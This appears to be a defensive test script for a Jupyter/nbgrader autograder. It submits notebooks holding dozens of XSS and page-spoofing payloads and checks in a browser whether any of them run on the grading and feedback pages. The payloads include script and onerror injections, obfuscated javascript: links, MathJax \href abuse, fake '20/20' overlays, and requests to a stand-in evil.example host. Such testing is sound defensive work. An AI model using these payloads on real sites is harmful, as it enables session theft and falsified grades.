"""Opens pages on which a submission's text is shown in a browser, and sees what of it acts there.

    python -m tests.attacked_pages [--unprotected]

The pages are nbgrader's formgrader and feedback, and our own class and student pages. A payload tells that it ran by
`ran(its name)`, by a request for a URL with its name, or by what it does to the page: another title, marks of the page
that are gone or covered. With `--unprotected` text cells are stored as they were handed in, and payloads do run.
MathJax is Debian's (libjs-mathjax), put in the place of the copy that nbconvert's pages load from elsewhere.
"""

import argparse
import json
import os
import re
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

from playwright.sync_api import BrowserContext, Error, Page, Route

from tests import chromium
from tests.attacking import ROOT, make_course
from tests.making import PRELUDE
from tests.nbgrader.course_folder import ASSIGNMENT, Course

MATHJAX = Path("/usr/share/javascript/mathjax")
SERVED = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.7/"
ELSEWHERE = "https://evil.example"  # nothing is there: requests are seen, and stopped
PAGES = ("formgrader", "feedback", "class page", "student page")

# Appended to nbgrader_config.py: text is stored as it came, and feedback has no policy.
UNPROTECTED = """
from autograder.nbgrader import gradebook, reading, restoring
restoring.make_harmless = lambda *more: None
gradebook.name_problem = lambda student: None
class Anything:
    fullmatch = staticmethod(lambda text: True)
    sub = staticmethod(lambda new, text: text)
reading.PICTURE = Anything
del c.GenerateFeedback.exporter_class
"""

# What is covered, hidden or moved of the page's own: headings with scores, the title's line and the way on.
COVERED = """() => {
  const found = [];
  for (const mark of document.querySelectorAll('.panel-heading, .navbar .breadcrumb')) {
    mark.scrollIntoView({block: 'center'});
    const box = mark.getBoundingClientRect();
    for (const at of [0.02, 0.25, 0.5, 0.98]) {
      const top = document.elementFromPoint(box.left + at * box.width, box.top + box.height / 2);
      if (!top || !(mark.contains(top) || top.contains(mark) || top.closest('.navbar')))
        found.push(mark.innerText.trim().slice(0, 40) + ' under ' + (top ? top.outerHTML.slice(0, 80) : 'nothing'));
    }
    const {visibility, opacity} = getComputedStyle(mark);
    if (box.height < 5 || visibility !== 'visible' || opacity !== '1') found.push('hidden: ' + mark.innerText);
  }
  return [...new Set(found)];
}"""


NOTEBOOKS = """
select sa.student_id, sn.id from submitted_notebook sn join submitted_assignment sa on sa.id = sn.assignment_id
"""


@dataclass(frozen=True)
class Payload:
    """Cells that try one thing. One that disturbs others on its page is handed in by a student of its own."""

    name: str
    cells: tuple[dict[str, Any], ...]
    alone: bool = False


@dataclass
class Seen:
    """What acted on one page."""

    page: str
    student: str
    acted: set[str] = field(default_factory=set)
    wrong: list[str] = field(default_factory=list)


def corpus() -> list[Payload]:
    """Return every payload: in its text, RUN is a call that tells that it ran, and URL an address that tells so."""
    made = [_payload(_slug(name), "markdown", text) for name, text in MARKDOWN.items()]
    made += [_payload(_slug(name), "markdown", text, alone=True) for name, text in ALONE.items()]
    made += [_payload(_slug(name), "raw", text) for name, text in RAW.items()]
    made += [_payload(_slug(name), "code", text) for name, text in CODE.items()]
    for name, (mime, data) in ATTACHED.items():
        attached = {"a.png": {_filled(_slug(name), mime): data}}
        made.append(_payload(_slug(name), "markdown", "![seen](attachment:a.png)", attachments=attached))
    made += [_payload(_slug(name), "markdown", "text", **more) for name, more in METADATA.items()]
    return made


def _slug(name: str) -> str:
    return re.sub(r"\W+", "-", name)


def _filled(name: str, value: Any) -> Any:
    text = json.dumps(value).replace("RUN", f"ran(/{name}/.source)")  # no quotes, no spaces: it stands anywhere
    text = text.replace("URL", f"{ELSEWHERE}/{name}")
    return json.loads(text)


def _payload(name: str, kind: str, text: str, *, alone: bool = False, **more: Any) -> Payload:
    cell = {"cell_type": kind, "metadata": {}, "source": text} | more
    if kind == "code":
        cell |= {"outputs": [], "execution_count": None}
    return Payload(name, (_filled(name, cell),), alone)


IMG = "<img src=x onerror=RUN>"
MARKDOWN = {
    "script": "<script>RUN</script>",
    "script in a list": "* a\n* <script>RUN</script>",
    "script in a table": "| a |\n|---|\n| <script>RUN</script> |",
    "script from elsewhere": "<script src=URL></script>",
    "module script": "<script type=module>RUN</script>",
    "img onerror": IMG,
    "img onerror, inline": "text <img src=x onerror=RUN> text",
    "img in capitals": "<IMG SRC=x ONERROR=RUN>",
    "img in a heading": "# title <img src=x onerror=RUN>",
    "img in the text of a link": f"[{IMG}](https://example.org)",
    "svg onload": "<svg onload=RUN></svg>",
    "svg script": "<svg><script>RUN</script></svg>",
    "svg animation": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "svg animated link": '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>go</text></a></svg>',
    "svg foreignObject": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "details ontoggle": "<details open ontoggle=RUN>x</details>",
    "video onerror": "<video><source onerror=RUN></video>",
    "input autofocus": "<input autofocus onfocus=RUN>",
    "style onload": "<style onload=RUN></style>",
    "onmouseover": "<b onmouseover=RUN>hover over this</b>",
    "onpointerenter": "<p onpointerenter=RUN>hover over this</p>",
    "css animation": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=RUN>x</b>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "iframe javascript": "<iframe src='javascript:parent.RUN'></iframe>",
    "iframe data": "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "object": "<object data='data:text/html,<script>RUN</script>'></object>",
    "embed": "<embed src='data:text/html,<script>RUN</script>'>",
    "button formaction": "<form><button formaction='javascript:RUN'>go</button></form>",
    "link javascript": "[go](javascript:RUN)",
    "link in mixed case": "[go](JaVaScRiPt:RUN)",
    "link with entities": "[go](javascript&colon;RUN)",
    "link with coded letters": "[go](&#106;avascript:RUN)",
    "link with a tab": "[go](<java&Tab;script:RUN>)",
    "link by reference": "[go][r]\n\n[r]: javascript:RUN",
    "link by angle brackets": "<javascript:RUN>",
    "link of html": "<a href='javascript:RUN'>go</a>",
    "link of html with a newline": "<a href='java\nscript:RUN'>go</a>",
    "link target": "<a href='javascript:RUN' target=_self>go</a>",
    "map area": "<map name=m><area shape=default href='javascript:RUN'></map><img usemap='#m' width=9 height=9 src=x>",
    "link to a file handed in": "[go](evil.html)",
    "link to the server's settings": "[go](/formgrader?path=submitted/b0)",
    "link to this machine": "[go](http://localhost:1/formgrader?path=submitted/b0)",
    "image from elsewhere": "![a](URL)",
    "image that asks the server": "![a](/formgrader?path=submitted/b0)",
    "image by reference": "![a][r2]\n\n[r2]: URL",
    "html image from elsewhere": "<img src='URL'>",
    "srcset": "<img srcset='URL 1x'>",
    "css background": "<b style='background:url(URL)'>x</b>",
    "css import": "<style>@import 'URL';</style>",
    "link stylesheet": "<link rel=stylesheet href='URL'>",
    "link prefetch": "<link rel=preload as=image href='URL'>",
    "mermaid": "```mermaid\n<img src=x onerror=RUN>\n```",
    "quote out of a title": '[a](https://example.org "x\\" onmouseover=RUN y=\\"")',
    "quote out of an alt": '![x" onerror=RUN y="](x.png)',
    "quote out of a language": '```"><img/src=x/onerror=RUN>\nx\n```',
    "math holds html": "$<img src=x onerror=RUN>$",
    "environment holds html": "\\begin{a}<img src=x onerror=RUN>\\end{a}",
    "math href": "$\\href{javascript:RUN}{go}$",
    "math href in display": "$$\\href{JavaScript:RUN}{go}$$",
    "math href in text": "\\\\(\\href{javascript:RUN}{go}\\\\)",
    "math in an environment": "\\begin{equation}\\href{javascript:RUN}{go}\\end{equation}",
    "math require": "$\\require{HTML}\\href{javascript:RUN}{go}$",
    "math token": "$\\mmlToken{mi}[href='javascript:RUN']{go}$",
    "math script": "<script type='math/tex'>\\href{javascript:RUN}{go}</script>",
    "math configuration": "<script type='text/x-mathjax-config'>RUN</script>",
    "cdata": "<![CDATA[<img src=x onerror=RUN>]]>",
    "processing instruction": "<?x ><img src=x onerror=RUN>?>",
    "tooltip of bootstrap": "<b data-toggle=tooltip data-html=true title='<img src=x onerror=RUN>'>x</b>",
}
ALONE = {  # what these do would hide or disturb others on the page
    "comment that does not end": "<!-- ",
    "comment that ends early": "<!--> <img src=x onerror=RUN> -->",
    "end of the cell": "</div></div></div></div></div></div><div style='position:fixed;inset:0'>20/20</div>",
    "plaintext": "<plaintext>",
    "textarea": "<textarea>",
    "base": "<base href='URL'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "title": "</title><script>document.title='owned'</script>",
    "style hides the marks": "<style>.panel-heading{display:none}</style>",
    "style covers the marks": "<style>#cover{position:fixed;inset:0;z-index:9999}</style><div id=cover>20/20</div>",
    "class of bootstrap covers": "<div class='modal-backdrop'>20/20</div>",
    "attribute covers": "<b style='position:fixed;inset:0;background:#fff;z-index:9999'>20/20</b>",
    "math covers": "$\\smash{\\raise 40em{\\rlap{\\kern -30em\\rule{90em}{80em}}}}$",
    "math style covers": "$\\style{position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999}{x}$",
    "form posts": "<form action='URL' id=f><input name=a></form><script>f.submit()</script>",
    "named as an exercise": "# softmax\n\n# SGD-comment",
    "nested deeply": "<b>" * 5000 + "x",
    "missing attachment": "![a](attachment:none.png)",
}
RAW = {"raw html": IMG, "raw script": "<script>RUN</script>", "raw math": "$\\href{javascript:RUN}{go}$"}
CODE = {
    "code holds html": "'''</pre></div><img src=x onerror=RUN><script>RUN</script>'''",
    "code of a magic": "%%html\n<img src=x onerror=RUN>",
    "code with escapes": "# \x1b[31m<img src=x onerror=RUN>\x1b[0m",
    "message holds html": "def softmax(y_linear):\n    raise RuntimeError('''<img src=x onerror=RUN>''')",
    "message holds math": "def cross_entropy(a, b):\n    raise RuntimeError(r'''$\\href{javascript:RUN}{go}$''')",
}
SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.RUN</script></svg>"
ATTACHED = {
    "attached html": ("text/html", "<script>RUN</script>"),
    "attached svg": ("image/svg+xml", SVG),
    "attachment-type": ('image/png"onerror=RUN x="', "AA=="),
    "attachment-data": ("image/png", 'x" onerror=RUN x="'),
    "attached pdf": ("application/pdf", "JVBERi0="),
}
OUT = '"><img src=x onerror=RUN>'
METADATA: dict[str, dict[str, Any]] = {
    "cell id": {"id": 'a"onmouseover=RUN'},
    "tag": {"metadata": {"tags": [OUT]}},
    "raw mimetype": {
        "cell_type": "raw",
        "source": IMG,
        "metadata": {"raw_mimetype": "text/html", "format": "text/html"},
    },
    "grade id": {
        "metadata": {"nbgrader": {"grade": True, "grade_id": '"><img src=x onerror=RUN>', "schema_version": 3}}
    },
    "magics language": {"cell_type": "code", "metadata": {"magics_language": "html"}, "outputs": []},
}
NOTEBOOK = {
    "title": "</title><img src=x onerror=ran('notebook title')>",
    "kernelspec": {"name": "\"><img src=x onerror=ran('kernel')>", "display_name": "<img src=x onerror=ran('kernel')>"},
    "language_info": {"name": "python", "pygments_lexer": "html", "codemirror_mode": "<img onerror=ran('mode')>"},
    "widgets": {"application/vnd.jupyter.widget-state+json": {"a": "</script><img src=x onerror=ran('widgets')>"}},
    "authors": [{"name": "<img src=x onerror=ran('author')>"}],
}
NAMED = "<img src=x onerror=ran('student')>"  # a student's folder: refused where it would act
QUOTED = '"+ran("student in a script")+"'


# ------------------------------------------------------------------------------------ handing in


def students(payloads: Sequence[Payload], *, protected: bool) -> dict[str, list[Payload]]:
    """Return who hands in what: one student all that can stand together, others one each."""
    if protected:  # nothing disturbs anything, or it is seen
        return {"b0": list(payloads)}
    together = [p for p in payloads if not p.alone]
    return {"b0": together} | {f"b{i}": [p] for i, p in enumerate((p for p in payloads if p.alone), start=1)}


def hand_in(course: Course, everyone: dict[str, list[Payload]]) -> None:
    """Write the payloads into `submitted/`, and two students whose names are payloads."""
    for student in [*everyone, NAMED, QUOTED]:
        cells = [c for p in everyone.get(student, []) for c in p.cells]
        first = {"cell_type": "code", "metadata": {}, "source": PRELUDE, "outputs": [], "execution_count": None}
        honest = {"cell_type": "markdown", "metadata": {}, "source": "$\\frac{a}{b}$"}
        tree = {"nbformat": 4, "nbformat_minor": 5, "metadata": NOTEBOOK, "cells": [first, honest, *cells]}
        course.hand_in(student, json.dumps(tree).encode())
        course.hand_in(student, b"<script>ran('file handed in')</script>", "evil.html")


# ------------------------------------------------------------------------------------ looking


@contextmanager
def serving(course: Course) -> Iterator[tuple[str, str]]:
    """Run a Jupyter server in the course's folder; return its address and its token."""
    with tempfile.TemporaryDirectory() as name:
        runtime = Path(name)
        places = {f"JUPYTER_{kind}_DIR": str(runtime) for kind in ("RUNTIME", "CONFIG", "DATA")}
        process = subprocess.Popen(
            [
                sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root", "--ServerApp.port=0",
                "--ServerApp.ip=127.0.0.1", f"--ServerApp.root_dir={course.root}",
            ],
            cwd=course.root, env=os.environ | places, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        try:
            ends = time.monotonic() + 60
            while not (found := sorted(runtime.glob("jpserver-*.json"))):
                assert time.monotonic() < ends, "the Jupyter server did not start"
                time.sleep(0.1)
            server = json.loads(found[0].read_text())
            yield server["url"], server["token"]
        finally:
            process.terminate()
            process.wait(timeout=30)


class Watch:
    """Collects what payloads tell while pages are open."""

    def __init__(self, context: BrowserContext) -> None:
        self.told: set[str] = set()
        context.expose_function("ran", lambda name: self.told.add(str(name)))
        context.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), self._answer)
        context.on("request", self._request)

    def _request(self, request: Any) -> None:
        if request.url.startswith(ELSEWHERE):
            self.told.add(request.url.removeprefix(ELSEWHERE + "/").split("?")[0])
        elif "path=submitted" in request.url:
            self.told.add("a request to the server's settings")

    @staticmethod
    def _answer(route: Route) -> None:
        path = route.request.url.split("?")[0]
        file = MATHJAX / path.removeprefix(SERVED)
        if path == SERVED + "latest.js":  # as there: it loads the newest MathJax.js with what is asked for
            asked = route.request.url.removeprefix(path)
            source = f"{SERVED}MathJax.js{asked}"
            script = f"document.head.append(Object.assign(document.createElement('script'), {{src: '{source}'}}))"
            route.fulfill(body=script, content_type="text/javascript")
        elif path.startswith(SERVED) and file.is_file():
            route.fulfill(path=file, headers={"Access-Control-Allow-Origin": "*"})
        else:
            route.abort()


def look(page: Page, watch: Watch, address: str, kind: str, student: str, cells: int = 0) -> Seen:
    """Open a page that shows so many cells, wait for MathJax, hover over and click what a submission put there."""
    seen = Seen(kind, student)
    watch.told.clear()
    answer = page.goto(address, wait_until="domcontentloaded")
    if answer is not None and answer.status >= 400:
        seen.wrong.append(f"the page answers {answer.status}")
    page.wait_for_timeout(300)
    title = page.title()
    if kind in ("formgrader", "feedback"):
        if not _typeset(page) and student == "b0":
            seen.wrong.append("MathJax has typeset nothing")
        if title != ASSIGNMENT:
            seen.wrong.append(f"the page is called {title!r}")
        if page.locator(".panel-heading").count() < 6:
            seen.wrong.append("marks of the page are missing")
        if (count := page.locator(".text_cell, .code_cell").count()) < cells:
            seen.wrong.append(f"{count} cells are shown, and at least {cells} were handed in")
    seen.wrong += page.evaluate(COVERED)
    seen.wrong += ["an exercise's score cannot be entered"] * (kind == "formgrader" and not _scores(page))
    _touch(page)
    page.wait_for_timeout(200)
    seen.acted = set(watch.told)
    return seen


def _typeset(page: Page) -> bool:
    """Wait until MathJax has done all; return whether there is mathematics."""
    try:
        page.wait_for_function("window.MathJax?.isReady", timeout=9000)
        page.evaluate("new Promise(done => MathJax.Hub.Queue(['Typeset', MathJax.Hub], done))")
    except Error:
        return False
    return page.locator(".mjx-chtml").count() > 0


def _scores(page: Page) -> bool:
    """Whether formgrader has found all five scores' inputs and both kinds of names of its own."""
    try:
        page.wait_for_function("typeof formgrader !== 'undefined' && formgrader.grades?.loaded", timeout=4000)
    except Error:
        return False
    found: int = page.evaluate("formgrader.grade_uis.filter(ui => ui.$el.length === 1).length")
    return found == 5


TOUCH = """async () => {
  const hit = (e, kind) => e.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true, view: window}));
  const text = [...document.querySelectorAll(
    '.text_cell_render *, .output *, .MathJax_CHTML a, body > *:not(nav) b, body > *:not(nav) p')];
  for (const e of text) for (const kind of ['mouseover', 'mouseenter', 'pointerenter']) hit(e, kind);
  const own = e => e.closest('nav, .panel-heading, #toc') || e.matches('.anchor-link');
  for (const e of document.querySelectorAll('a, area, button')) {
    if (own(e) || e.closest('.panel-footer')) continue;
    const href = e.href && (e.href.baseVal ?? e.href) || '';
    if (e.matches('button') || /^javascript:/i.test(href)) e.click();
    else if (/evil.html|path=submitted/.test(href)) ran('link: ' + href);
  }
  await new Promise(done => setTimeout(done, 300));
}"""


def _touch(page: Page) -> None:
    """Hover over all text and press all links that a submission may have put on a page."""
    try:
        page.evaluate(TOUCH)
    except Error as error:  # a payload led elsewhere, which has been seen as a request
        if "context was destroyed" not in str(error):
            raise


def look_at_all(course: Course, everyone: dict[str, list[Payload]], folder: Path) -> list[Seen]:
    """Open every page of a graded course."""
    ids = dict(course.rows(NOTEBOOKS))
    cells = {s: sum(c["cell_type"] != "raw" for p in ps for c in p.cells) for s, ps in everyone.items()}
    found = []
    with serving(course) as (address, token), chromium.opened(folder) as context:
        watch = Watch(context)
        page = context.pages[0]
        page.on("dialog", lambda dialog: dialog.dismiss())
        page.goto(f"{address}formgrader/gradebook?token={token}")
        for place in ("manage_students", f"manage_submissions/{ASSIGNMENT}", f"gradebook/{ASSIGNMENT}/{ASSIGNMENT}"):
            found.append(look(page, watch, f"{address}formgrader/{place}", f"formgrader/{place}", "everyone"))
        for student, number in ids.items():
            at = f"{address}formgrader/submissions/{number}/"
            found.append(look(page, watch, at, "formgrader", str(student), cells.get(str(student), 0)))
            if str(student) in (NAMED, QUOTED):
                at = f"{address}formgrader/manage_students/{quote(str(student))}/{ASSIGNMENT}"
                found.append(look(page, watch, at, "formgrader/manage_students", str(student)))
        for student in ids:
            at = course.root / "feedback" / str(student) / ASSIGNMENT / f"{ASSIGNMENT}.html"
            found.append(
                look(page, watch, at.as_uri(), "feedback", str(student), cells.get(str(student), 0))
                if at.is_file()
                else Seen("feedback", str(student), wrong=["there is none"])
            )
        reports = course.root / "reports"
        for at in reports.glob("index.html"):
            found.append(look(page, watch, at.as_uri(), "class page", "everyone"))
        for at in sorted(reports.glob(f"{ASSIGNMENT}/*.html")):
            found.append(look(page, watch, at.as_uri(), "student page", at.stem))
    missing = set(everyone) - set(map(str, ids))
    return [*found, *(Seen("formgrader", s, wrong=["not in the gradebook"]) for s in sorted(missing))]


def run(payloads: Sequence[Payload], *, protected: bool = True) -> list[Seen]:
    """Hand the payloads in, grade them with nbgrader and by `grade`, and look at every page."""
    with tempfile.TemporaryDirectory(prefix="pages-") as name:
        folder = Path(name)
        (folder / "course").mkdir()
        course = Course(make_course(folder / "course"))
        config = (ROOT / "nbgrader_config.py").read_text()
        (course.root / "nbgrader_config.py").write_text(config + ("" if protected else UNPROTECTED))
        course.nbgrader("generate_assignment", ASSIGNMENT)
        everyone = students(payloads, protected=protected)
        hand_in(course, everyone)
        for command in ("autograde", "generate_feedback"):
            done = course.nbgrader(command, ASSIGNMENT, seconds=600)
            assert done.returncode in (0, 1), done.stderr[-2000:]
        if protected:
            done = course.autograder("grade")
            assert done.returncode == 0, done.stderr
        return look_at_all(course, everyone, folder)


def table(rows: Sequence[Seen], payloads: Sequence[Payload]) -> str:
    """Lay out a line for each kind of page, and one for each thing that acted."""
    lines = [f"{'page':34} {'opened':>6} {'payloads':>8} {'acted':>6}"]
    for kind in dict.fromkeys(row.page for row in rows):
        some = [row for row in rows if row.page == kind]
        count = sum(len(row.acted) + len(row.wrong) for row in some)
        lines.append(f"{kind:34} {len(some):6} {len(payloads):8} {count:6}")
        for row in some:
            lines += [f"    BREAK: {row.student}: {told}" for told in [*sorted(row.acted), *row.wrong]]
    return "\n".join(lines)


def main() -> int:
    """Print the table; return 1 where anything acted."""
    parser = argparse.ArgumentParser(description="See what of a submission acts on pages that show it.")
    parser.add_argument("--unprotected", action="store_true", help="store text as it was handed in: payloads do run")
    options = parser.parse_args()
    if chromium.program() is None or not MATHJAX.is_dir():
        sys.stderr.write(f"{chromium.MISSING}, or no MathJax (libjs-mathjax): no page was opened\n")
        return 1
    began = time.monotonic()
    payloads = corpus()
    rows = run(payloads, protected=not options.unprotected)
    count = sum(len(row.acted) + len(row.wrong) for row in rows)
    told = f"{len(payloads)} payloads, {len(rows)} pages opened, {count} breaks, {time.monotonic() - began:.0f} s"
    sys.stdout.write(f"\npages\n{table(rows, payloads)}\n{told}\n")
    return 1 if count else 0


if __name__ == "__main__":
    sys.exit(main())
